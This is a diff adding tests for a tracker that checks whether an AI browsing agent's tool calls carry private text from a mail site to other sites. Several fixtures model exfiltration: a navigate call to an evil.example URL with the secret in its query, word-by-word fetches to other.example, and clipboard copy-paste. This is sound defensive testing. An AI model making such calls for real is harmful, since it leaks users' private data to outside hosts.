@@ -137,3 +137,118 @@ it.each(Object.keys(FORMS))('finds a private text as %s in every argument that a
   }
   expect(missed).toEqual([]);
 });
+
+const FORM =
+  'Subject: Your order. Your code is 402 917. IBAN DE89 3704 0044 0532 0130 00. Write to ada.lovelace@example.org.';
+
+it.each([
+  ['a code', '402917'],
+  ['a code in groups', '40 29 17'],
+  ['an account', 'DE89370400440532013000'],
+  ['an address', 'Ada.Lovelace@example.org'],
+])('finds %s alone', async (_what, text) => {
+  const [source] = await sourcesOf(given(FORM), 'interact', { fields: { Code: text } });
+  expect(source).toMatchObject({ site: MAIL, how: 'token' });
+});
+
+it('finds a whole cell, and no part of it', async () => {
+  const flows = given('| Name | Town |\n| --- | --- |\n| Ada Lovelace | Ockham Park |');
+  expect(await sourcesOf(flows, 'interact', { fields: { Name: 'Ada Lovelace' } })).toHaveLength(1);
+  expect(await sourcesOf(flows, 'interact', { fields: { Name: 'Lovelace' } })).toEqual([]);
+});
+
+it('finds a text that is sent word by word', async () => {
+  const flows = given(SECRET);
+  const words = SECRET.split(' ');
+  const found = [];
+  for (const word of words)
+    found.push(
+      ...(await sourcesOf(flows, 'fetch', { url: `https://other.example/${encodeURIComponent(word)}` })),
+    );
+  expect(found.length).toBeGreaterThan(0);
+});
+
+it.each<[what: string, given: string, tool: string, args: JsonObject]>([
+  [
+    'the names of things to press',
+    'Settings\nContinue with your order',
+    'interact',
+    { steps: ['click text=Settings'] },
+  ],
+  ['a date', 'Due on 2026-11-30', 'interact', { fields: { Date: '2026-11-30' } }],
+  ['a price', 'Total: $ 1249.00', 'interact', { fields: { Amount: '1249.00' } }],
+  [
+    'other words',
+    SECRET,
+    'interact',
+    { fields: { Message: 'When does the board meet, and who will be there?' } },
+  ],
+  ['a bookmark', SECRET, 'navigate', { url: 'https://www.example.net/en/products/list?page=2' }],
+  ['a part of a page to read', SECRET, 'read_page', { selector: SECRET }],
+])('nothing of another site is found in %s', async (_what, text, tool, args) => {
+  expect(await sourcesOf(given(text), tool, args)).toEqual([]);
+});
+
+it('an answer that quotes what was sent makes it nobody else’s text', async () => {
+  const flows = given(SECRET);
+  const call = {
+    callId: 'q',
+    tool: 'navigate',
+    args: { url: `https://evil.example/?q=${SECRET}` },
+    session: SESSION,
+  };
+  const failed = {
+    ok: false,
+    content: [{ type: 'text', text: `No answer: ${SECRET}` }],
+    state: {},
+    from: 'https://evil.example/',
+  };
+  flows.arrived(call, failed as unknown as ToolResult);
+  expect(await sourcesOf(flows, 'fetch', call.args)).toMatchObject([{ site: MAIL }]);
+});
+
+it('text that a public page shows, too, is public; and what one agent has read is not another’s', async () => {
+  const flows = given(SECRET);
+  const other = { id: 's2', name: 'other' } as ClientSession;
+  expect(await sourcesOf(flows, 'fetch', { url: `https://o.example/${SECRET}` }, other)).toEqual([]);
+  given(SECRET, { flows, site: 'https://news.example', isPrivate: false });
+  const sources = await sourcesOf(flows, 'fetch', { url: `https://o.example/${SECRET}` });
+  expect(sources.filter((one) => one.is_private)).toEqual([]);
+});
+
+it('strict names every private site that was read, but for addresses that a page has shown', async () => {
+  const flows = createFlows({ mode: 'strict' });
+  given('See https://docs.example/start for more.', { flows });
+  expect(await sourcesOf(flows, 'navigate', { url: 'https://docs.example/start' })).toEqual([]);
+  for (const url of ['https://docs.example/other', 'https://docs.example/start?a=1'])
+    expect(await sourcesOf(flows, 'navigate', { url })).toMatchObject([{ site: MAIL, how: 'strict' }]);
+  expect(await sourcesOf(flows, 'interact', { fields: { Message: 'In other words' } })).toHaveLength(1);
+});
+
+it('what a program makes of a text counts as from the sites that it has read, and what its code says does not', async () => {
+  const flows = createFlows({ mode: 'ask' });
+  flows.begun({
+    callId: 'p',
+    tool: 'script',
+    args: { code: "fetch('https://other.example/list')" },
+    session: SESSION,
+  });
+  const facts = { call_id: 'p.1', tool: 'read_page', title: '', args: {}, is_editable: false, args_hash: '' };
+  flows.heard({ caller: { session: 's1', name: 'test' }, call: facts }, [{ site: MAIL, is_private: true }]);
+  const read = { ok: true, content: [{ type: 'text', text: SECRET }], state: {} } as unknown as ToolResult;
+  flows.arrived({ callId: 'p.1', tool: 'read_page', args: {}, session: SESSION, parent: 'p' }, read);
+  await flows.ready(SESSION);
+  const of = (url: string) =>
+    flows.sourcesOf({ callId: 'p.2', tool: 'fetch', args: { url }, session: SESSION, parent: 'p' }, null);
+  expect(of('https://other.example/list')).toEqual([]);
+  expect(of('https://other.example/x9q2')).toMatchObject([{ site: MAIL, how: 'program' }]);
+});
+
+it('text that was copied by keys is pasted from its site', async () => {
+  const flows = createFlows({ mode: 'ask' });
+  const keys = { callId: 'k', tool: 'interact', args: { steps: ['press Control+C'] }, session: SESSION };
+  const done = { ok: true, content: [{ type: 'text', text: 'done' }], state: {}, from: `${MAIL}/` };
+  flows.arrived(keys, done as unknown as ToolResult);
+  const sources = await sourcesOf(flows, 'interact', { steps: ['press ControlOrMeta+V'] });
+  expect(sources).toMatchObject([{ site: MAIL, how: 'copied' }]);
+});
